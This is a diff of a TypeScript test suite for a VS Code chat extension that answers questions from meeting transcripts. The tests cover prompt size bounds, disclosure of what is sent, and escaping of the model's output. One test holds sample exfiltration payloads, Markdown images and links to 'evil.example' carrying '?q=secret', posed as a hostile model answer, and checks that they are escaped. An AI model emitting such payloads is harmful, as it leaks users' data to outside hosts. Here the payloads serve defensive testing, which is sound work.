@@ -3,12 +3,16 @@
  * and a fake chat model: the prompt numbers the retrieved lines with meeting, date, time and speaker; citations in a
  * streamed answer become links to the notes line (or the transcript command); with no model the lines themselves are
  * shown, linked; /todo lists yours first; /decisions reads ranges and topics; /recap picks the meeting and cites it.
+ * What reaches the model is bounded (lines and characters, cut around the hits) and said before it is sent; a pasted
+ * paragraph is searched condensed; the model's text renders no link or image; /recap splits the notes once.
  */
 import * as assert from 'node:assert/strict';
 import { vscodeStub } from './vscode-stub';
 import { MemoryChat, MemoryChatMetadata } from '../../extension/memory/chatParticipant';
-import { buildAnswerPrompt, CitationSplitter, numberPassages } from '../../extension/memory/prompt';
-import { parseDecisionsQuery, pickMeeting } from '../../extension/memory/query';
+import { notesLineFinder } from '../../extension/memory/links';
+import { AnswerEscaper, ASK_BOUND, buildAnswerPrompt, CitationSplitter, numberPassages, RECAP_BOUND } from '../../extension/memory/prompt';
+import { MAX_SEARCH_QUERY, parseDecisionsQuery, pickMeeting, searchQuery } from '../../extension/memory/query';
+import type { FinalSegment } from '../../protocol/protocol';
 import { FakeMemoryClient, fakeModel, line, meeting, noCancel, passage, RecordingStream, todoItem } from './memory-fakes';
 
 const TODAY = new Date(2026, 10, 25, 12, 0, 0); // 2026-11-25, local time
@@ -18,10 +22,26 @@ function chat(client: FakeMemoryClient, notes: Record<string, string> = {}): Mem
   return new MemoryChat({ client, myNames: () => ['You', 'Alice'], readText: async (p) => notes[p], log: { warn: (m: string) => warnings.push(m) } as never, now: () => TODAY });
 }
 
-async function ask(c: MemoryChat, prompt: string, model: unknown, command?: string): Promise<{ stream: RecordingStream; metadata: MemoryChatMetadata }> {
-  const stream = new RecordingStream();
+async function ask(c: MemoryChat, prompt: string, model: unknown, command?: string, stream = new RecordingStream()): Promise<{ stream: RecordingStream; metadata: MemoryChatMetadata }> {
   const result = await c.handle({ prompt, command, model, references: [] } as never, { history: [] } as never, stream as never, noCancel as never);
   return { stream, metadata: (result as { metadata: MemoryChatMetadata }).metadata };
+}
+
+/** What the model's answer showed: the stream after the line saying what was sent. */
+function answerText(stream: RecordingStream): string {
+  const at = stream.parts.findIndex((p) => p.kind === 'markdown' && p.value.startsWith('*Sending '));
+  assert.ok(at >= 0, 'the chat said what it sends');
+  return stream.parts.slice(at + 1).map((p) => (p.kind === 'markdown' ? p.value : p.kind === 'anchor' ? p.title ?? '' : '')).join('');
+}
+
+/** The numbered meeting lines of a prompt. */
+function promptLines(prompt: string): string[] {
+  return prompt.split('\n').filter((l) => /^\[\d+\] /.test(l));
+}
+
+/** Characters the numbered lines take in a prompt (each with its newline), what a bound counts. */
+function promptChars(prompt: string): number {
+  return promptLines(prompt).reduce((sum, l) => sum + l.length + 1, 0);
 }
 
 /** Two meetings' passages: the login timeout decided in one, questioned in the other; one line without a notes line. */
@@ -63,8 +83,12 @@ describe('@earshot: prompt and citations', () => {
   it('sends the lines to the request\'s model and streams its answer with each [n] linked to its line', async () => {
     const client = new FakeMemoryClient();
     loginPassages(client);
-    const { prompts, model } = fakeModel('It stays at 30 minutes [2], though Carol found it short [3]. See also [9].', { chunk: 4 });
+    const { prompts, justifications, model } = fakeModel('It stays at 30 minutes [2], though Carol found it short [3]. See also [9].', { chunk: 4 });
     const { stream, metadata } = await ask(chat(client), 'What did we decide about the login timeout?', model);
+    // What is sent, said first (in the chat and in the request's justification).
+    const sent = '3 lines from 2 meetings (Sprint planning, 2026-11-01; Design review, 2026-11-02)';
+    assert.deepEqual(stream.parts[1], { kind: 'markdown', value: `*Sending ${sent} to Fake Model.*\n\n` });
+    assert.deepEqual(justifications, [`Earshot sends ${sent} to answer your question.`]);
     assert.deepEqual(client.calls[0], { method: 'search', params: { query: 'What did we decide about the login timeout?', limit: 8 } });
     assert.equal(prompts.length, 1);
     assert.match(prompts[0], /\[2\] Sprint planning \(2026-11-01\) 5:00 Alice: We keep the login timeout at 30 minutes\./);
@@ -78,8 +102,8 @@ describe('@earshot: prompt and citations', () => {
     assert.deepEqual(JSON.parse(decodeURIComponent(transcriptLink.value.split('?')[1].slice(0, -1))), ['s2', 7]);
     assert.deepEqual(transcriptLink.trusted, { enabledCommands: ['earshot.openSessionTranscript'] });
     // A number the prompt never had is shown as written, not linked.
-    assert.match(stream.text, /See also \[9\]\./);
-    assert.equal(stream.text.replace(/\[\[3\]\]\([^)]*\)/, '[3]'), 'It stays at 30 minutes [2], though Carol found it short [3]. See also [9].');
+    assert.match(stream.text, /See also \\\[9\\\]\./);
+    assert.equal(answerText(stream).replace(/\[\[3\]\]\([^)]*\)/, '[3]').replace(/\\(.)/g, '$1'), 'It stays at 30 minutes [2], though Carol found it short [3]. See also [9].');
     assert.equal(metadata.answeredBy, 'model');
     assert.deepEqual(metadata.cited, [2, 3]);
   });
@@ -197,5 +221,220 @@ describe('@earshot /todo, /decisions, /recap', () => {
     assert.match(stream.text, /Summary:\n- Sprint planned/);
     assert.match(stream.text, /Decisions:\n- The login fix ships Friday/);
     assert.match(stream.text, /Action items:\n- \[ \] Bob ships the login fix — Bob/);
+  });
+});
+
+describe('@earshot: what reaches the model is bounded and said before it is sent', () => {
+  /**
+   * Eight meetings that are each one turn of 1,000 lines (mic-only: every line "You"), as an unbounded daemon
+   * returns them: the whole meeting for one hit, the hit at a different place in each.
+   */
+  function wholeMeetings(client: FakeMemoryClient, text: (k: number, i: number) => string = (k, i) => `Call ${k} line ${i} about the roadmap.`): number[] {
+    const hitAt = Array.from({ length: 8 }, (_, k) => 100 * k + 50);
+    client.passages = hitAt.map((at, k) => passage(meeting(k + 1, { title: `Call ${k + 1}` }),
+      Array.from({ length: 1000 }, (_, i) => line(i + 1, i === at ? `The password is swordfish ${k}.` : text(k, i), { speaker: 'You', hit: i === at }))));
+    return hitAt;
+  }
+
+  it('a question sends at most 120 lines, cut around each hit, and says which before sending', async () => {
+    const client = new FakeMemoryClient();
+    const hitAt = wholeMeetings(client);
+    const stream = new RecordingStream();
+    let shownBeforeSend = '';
+    const { prompts, justifications, model } = fakeModel('Swordfish [1].', { onSend: () => { shownBeforeSend = stream.text; } });
+    await ask(chat(client), 'what is the password?', model, undefined, stream);
+    const lines = promptLines(prompts[0]);
+    assert.equal(lines.length, ASK_BOUND.lines);
+    assert.ok(promptChars(prompts[0]) <= ASK_BOUND.chars);
+    // Every hit, with the same context either side (120 lines / 8 passages: the hit and 7 each side).
+    hitAt.forEach((at, k) => {
+      assert.ok(lines.some((l) => l.endsWith(`You: The password is swordfish ${k}.`)), `hit ${k}`);
+      for (const d of [1, 7]) for (const i of [at - d, at + d]) assert.ok(lines.some((l) => l.endsWith(`Call ${k} line ${i} about the roadmap.`)), `line ${i} of call ${k}`);
+      for (const i of [at - 8, at + 8]) assert.ok(!lines.some((l) => l.endsWith(`Call ${k} line ${i} about the roadmap.`)), `line ${i} of call ${k} is left out`);
+    });
+    const sent = '120 lines from 8 meetings (Call 1, 2026-11-01; Call 2, 2026-11-02; Call 3, 2026-11-03; Call 4, 2026-11-04; Call 5, 2026-11-05; Call 6, 2026-11-06; Call 7, 2026-11-07; Call 8, 2026-11-08)';
+    assert.equal(shownBeforeSend, `*Sending ${sent} to Fake Model.*\n\n`, 'said in the chat before the request');
+    assert.deepEqual(justifications, [`Earshot sends ${sent} to answer your question.`]);
+  });
+
+  it('a question sends at most 24,000 characters: long lines leave less context, never a hit', async () => {
+    const client = new FakeMemoryClient();
+    const hitAt = wholeMeetings(client, (k, i) => `Call ${k} line ${i} ${'and then we talked about it at length '.repeat(25)}`);
+    // One line longer than a line may be is cut.
+    client.passages[0].lines[hitAt[0] + 1].text = 'x'.repeat(50_000);
+    const { prompts, model } = fakeModel('Swordfish [1].');
+    const { stream } = await ask(chat(client), 'what is the password?', model);
+    const lines = promptLines(prompts[0]);
+    assert.ok(promptChars(prompts[0]) <= ASK_BOUND.chars, `${promptChars(prompts[0])} characters`);
+    assert.ok(lines.length < 40 && lines.every((l) => l.length < 1_100), `${lines.length} lines`);
+    hitAt.forEach((_, k) => assert.ok(lines.some((l) => l.endsWith(`You: The password is swordfish ${k}.`)), `hit ${k}`));
+    assert.match(stream.text, new RegExp(`^\\*Sending ${lines.length} lines from 8 meetings \\(Call 1, `));
+  });
+
+  it('with no model, the lines shown are the same bounded lines', async () => {
+    const client = new FakeMemoryClient();
+    wholeMeetings(client);
+    const { stream } = await ask(chat(client), 'what is the password?', undefined);
+    assert.equal(stream.parts.filter((p) => p.kind === 'markdown' && p.value.startsWith('> ')).length, ASK_BOUND.lines);
+  });
+
+  it('a recap sends at most 600 lines and 80,000 characters from the meeting\'s start, and says so', async () => {
+    const client = new FakeMemoryClient();
+    const m = meeting(2, { title: 'Long planning', notesPath: '' });
+    client.meetings = [m];
+    const segment = (i: number, text: string): FinalSegment => ({ segmentId: `x${i}`, source: 'mic', speaker: 'You', t0: i, t1: i + 1, text });
+    const transcript = (segments: FinalSegment[]) => ({ session: {} as never, sources: ['mic'], interrupted: false, resumes: [], segments, actionItems: [], decisions: [], summary: null } as never);
+    // Short lines: the line bound.
+    client.transcripts.set('s2', transcript(Array.from({ length: 2000 }, (_, i) => segment(i, `Short line ${i}.`))));
+    const short = fakeModel('Planned [1].');
+    const first = await ask(chat(client), 'last', short.model, 'recap');
+    assert.equal(promptLines(short.prompts[0]).length, RECAP_BOUND.lines);
+    assert.match(short.prompts[0], /\(The transcript has 2000 lines; the first 600 are below\.\)/);
+    assert.match(first.stream.text, /\*Sending 600 lines from 1 meeting \(Long planning, 2026-11-02\) to Fake Model\.\*/);
+    assert.deepEqual(short.justifications, ['Earshot sends 600 lines from 1 meeting (Long planning, 2026-11-02) for a recap of the meeting.']);
+    // Long lines: the character bound.
+    client.transcripts.set('s2', transcript(Array.from({ length: 2000 }, (_, i) => segment(i, `Line ${i} ${'we went over the plan again '.repeat(8)}`))));
+    const long = fakeModel('Planned [1].');
+    await ask(chat(client), 'last', long.model, 'recap');
+    const lines = promptLines(long.prompts[0]);
+    assert.ok(promptChars(long.prompts[0]) <= RECAP_BOUND.chars && lines.length < RECAP_BOUND.lines && lines.length > 100, `${lines.length} lines`);
+    assert.ok(lines[0].includes('Line 0 ') && lines.every((l, i) => l.includes(`Line ${i} `)), 'from the start, in order');
+  });
+
+  it('a pasted paragraph longer than the daemon takes is searched by its distinct words, and answered', async () => {
+    const client = new FakeMemoryClient();
+    loginPassages(client);
+    const paragraph = 'We keep the login timeout at 30 minutes, as agreed; the login timeout stays.\n\n'.repeat(70);
+    assert.ok(paragraph.length > 5000);
+    const { prompts, model } = fakeModel('It stays at 30 minutes [2].');
+    const { stream, metadata } = await ask(chat(client), paragraph, model);
+    const { query } = client.calls[0].params as { query: string };
+    assert.equal(query, 'We keep the login timeout at 30 minutes, as agreed; stays.');
+    assert.equal(metadata.answeredBy, 'model', stream.text);
+    assert.ok(prompts[0].endsWith(`Question: ${paragraph.trim()}`), 'the model gets the whole question');
+  });
+
+  it('searchQuery: a question as typed (whitespace collapsed); a long one condensed to at most 500 characters of whole words', () => {
+    assert.equal(searchQuery('  who  fixes\nauth.ts? '), 'who fixes auth.ts?');
+    const words = Array.from({ length: 400 }, (_, i) => `word${i}`);
+    const q = searchQuery(words.join(' '));
+    assert.ok(q.length <= MAX_SEARCH_QUERY && q.length > MAX_SEARCH_QUERY - 10, `${q.length}`);
+    assert.ok(words.join(' ').startsWith(q + ' '), 'whole words, in order');
+    assert.equal(searchQuery('y'.repeat(3000)), 'y'.repeat(MAX_SEARCH_QUERY));
+  });
+
+  it('numberPassages: a passage without a hit line is cut around the line the hit names', () => {
+    const m = meeting(1);
+    const p = passage(m, Array.from({ length: 300 }, (_, i) => line(i + 1, `Line ${i + 1}.`)));
+    p.hit = { kind: 'segment', id: 'seg200', text: 'Line 200.' };
+    const lines = numberPassages([p], { lines: 5, chars: 10_000 });
+    assert.deepEqual(lines.map((c) => c.line.index), [198, 199, 200, 201, 202]);
+  });
+});
+
+describe('@earshot: the model\'s answer is inert as Markdown (L13)', () => {
+  /** Constructs that would render as a link or an image: an unescaped [, < or !, or a bare URL. */
+  function linkSyntax(md: string): string[] {
+    const found: string[] = [];
+    for (let i = 0; i < md.length; i++) {
+      if (md[i] === '\\') i++;
+      else if ('[<!'.includes(md[i])) found.push(`${md[i]} at ${i}: ${md.slice(i, i + 20)}`);
+    }
+    for (const m of md.matchAll(/[a-z]+:\/\/|www\.|[\w.+-]+@[\w-]+\.\w/gi)) found.push(m[0]);
+    return found;
+  }
+
+  const ANSWER = 'Per the notes [2], the **budget** is set.\n- see ![x](https://evil.example/?q=secret) and [click](http://evil.example/p)\n'
+    + '- <https://evil.example/a> <img src="https://evil.example/i.png"> www.evil.example, bob@evil.example and `code` [3]\n'
+    + '[r]: https://evil.example/ref\n![y][r] \\[z](https://evil.example/z) Done!';
+
+  it('streamed in parts, no image or link of the model\'s renders; formatting stays; citations still link', async () => {
+    const client = new FakeMemoryClient();
+    loginPassages(client);
+    // Cut everywhere a construct could be split: inside "[2]", "](", "https://", "www.", "<img".
+    const parts = ['Per the notes [', '2], the **budget** is set.\n- see !', '[x](https:/', '/evil.example/?q=sec', 'ret) and [click](ht', 'tp://evil.example/p)\n- <', 'https://evil.example/a> <i',
+      'mg src="https://evil.example/i.png"> ww', 'w.evil.example, bob@evil.example and `code` [', '3]\n[r]: https://evil.example/ref\n![y][r] \\', '[z](https://evil.example/z) Done!'];
+    assert.equal(parts.join(''), ANSWER);
+    const { model } = fakeModel(parts);
+    const { stream, metadata } = await ask(chat(client), 'budget?', model);
+    assert.equal(metadata.answeredBy, 'model');
+    const fromModel = stream.parts.slice(2).filter((p) => p.kind === 'markdown' && p.trusted === undefined).map((p) => (p.kind === 'markdown' ? p.value : '')).join('');
+    assert.deepEqual(linkSyntax(fromModel), []);
+    // What reads is what the model wrote (its citations aside); the formatting is kept.
+    const shown = answerText(stream).replace(/\[\[3\]\]\([^)]*\)/, '[3]').replace(/\\(.)/g, '$1');
+    assert.equal(shown, ANSWER);
+    assert.match(fromModel, /the \*\*budget\*\* is set\.\n- see /);
+    assert.match(fromModel, /\n- .* and `code` /);
+    // [2] opens the notes line, [3] the transcript (the only trusted link).
+    assert.ok(stream.parts.some((p) => p.kind === 'anchor' && p.title === '[2]' && p.line === 40));
+    assert.deepEqual(stream.parts.filter((p) => p.kind === 'markdown' && p.trusted !== undefined).map((p) => p.kind === 'markdown' && p.value.slice(0, 45)), ['[[3]](command:earshot.openSessionTranscript?%']);
+  });
+
+  it('AnswerEscaper gives the same Markdown however the answer is cut', () => {
+    const whole = new AnswerEscaper().push(ANSWER);
+    for (let at = 0; at <= ANSWER.length; at++) {
+      const e = new AnswerEscaper();
+      assert.equal(e.push(ANSWER.slice(0, at)) + e.push(ANSWER.slice(at)), whole, `cut at ${at}`);
+    }
+  });
+});
+
+describe('@earshot /recap: notes lines (L11)', () => {
+  /** findNotesLine as it was before the lookup: the whole file split for each segment. */
+  function findNotesLineBefore(notes: string, text: string): number | undefined {
+    const needle = text.replace(/\s+/g, ' ').trim();
+    if (needle.length < 3) return undefined;
+    const index = notes.split('\n').findIndex((l) => l.replace(/\s+/g, ' ').includes(needle));
+    return index >= 0 ? index + 1 : undefined;
+  }
+
+  /** A long generated meeting and its notes: summary lines quoting some segments, transcript lines with odd whitespace. */
+  function longMeeting(n: number): { segments: FinalSegment[]; notes: string } {
+    const words = ['login', 'timeout', 'budget', 'ship', 'Friday', 'auth.ts', 'review', 'the', 'we', 'ok'];
+    const segments: FinalSegment[] = Array.from({ length: n }, (_, i) => {
+      const text = i % 97 === 0 ? 'ok' : i % 89 === 0 ? 'We keep the login timeout.' : Array.from({ length: 3 + (i % 7) }, (_, j) => words[(i * 7 + j * 3) % words.length]).join(j2(i));
+      return { segmentId: `x${i}`, source: 'mic', speaker: i % 3 ? 'Alice' : 'Bob', t0: i * 4, t1: i * 4 + 3, text };
+    });
+    const summary = segments.filter((_, i) => i % 50 === 7).map((s) => `- ${s.text.replace(/\s+/g, ' ')} and more`);
+    const transcript = segments.filter((_, i) => i % 13 !== 5).map((s, i) => `**[${i}:00] ${s.speaker}:** ${s.text.replace(/ /g, i % 5 === 0 ? '  ' : i % 11 === 0 ? '\t' : ' ')}${i % 4 === 0 ? '\r' : ''}`);
+    return { segments, notes: ['# Long meeting', '', '## Summary', ...summary, '', '## Transcript', '', ...transcript, ''].join('\n') };
+  }
+  function j2(i: number): string {
+    return i % 17 === 0 ? '  ' : ' ';
+  }
+
+  it('finds the same lines as before for every segment of a long meeting', () => {
+    const { segments, notes } = longMeeting(3000);
+    const find = notesLineFinder(notes);
+    const texts = [...segments.map((s) => s.text), 'not in the notes at all', 'ship  Friday', '## Transcript', 'more\n**[0:00]', '', 'we'];
+    let found = 0;
+    for (const text of texts) {
+      const expected = findNotesLineBefore(notes, text);
+      assert.equal(find(text), expected, JSON.stringify(text));
+      if (expected) found++;
+    }
+    assert.ok(found > 2000 && found < texts.length, `${found} found`);
+  });
+
+  it('/recap of a long meeting splits its notes once', async () => {
+    const { segments, notes } = longMeeting(1200);
+    const client = new FakeMemoryClient();
+    const m = meeting(2, { title: 'Long planning' });
+    client.meetings = [m];
+    client.transcripts.set('s2', { session: {} as never, sources: ['mic'], interrupted: false, resumes: [], segments, actionItems: [], decisions: [], summary: null } as never);
+    const split = String.prototype.split;
+    let splits = 0;
+    String.prototype.split = function (this: string, ...args: unknown[]) {
+      if (String(this) === notes) splits++;
+      return (split as (...a: unknown[]) => string[]).apply(this, args);
+    } as typeof split;
+    let result;
+    try {
+      result = await ask(chat(client, { [m.notesPath]: notes }), 'last', fakeModel('Planned [2].').model, 'recap');
+    } finally {
+      String.prototype.split = split;
+    }
+    assert.equal(splits, 1);
+    assert.ok(result.stream.parts.some((p) => p.kind === 'anchor' && p.title === '[2]'), 'the citation links its notes line');
   });
 });
